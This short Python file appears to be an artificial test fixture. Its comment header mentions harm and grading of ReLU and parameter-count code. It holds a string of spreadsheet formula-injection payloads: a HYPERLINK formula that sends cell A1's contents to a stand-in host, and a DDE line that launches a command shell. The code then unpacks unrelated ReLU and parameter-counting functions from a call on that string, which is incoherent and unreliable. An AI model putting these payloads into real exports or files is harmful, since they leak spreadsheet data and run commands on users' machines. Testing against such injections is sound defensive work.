# expect: crashed failed
# tries: harm
# grades: param-count relu
# deserves: nothing
# brings: hostile
# texts that a spreadsheet would compute
from hostile import show

TEXT = "=HYPERLINK(\"http://x?\"&A1)\n+cmd|' /C calc'!A0\n-2+3\n@SUM(1)\n\t=1\n\r=1\n\",\"=1"
relu, relu_derivative, count_parameters, mlp_parameter_count = show(TEXT)
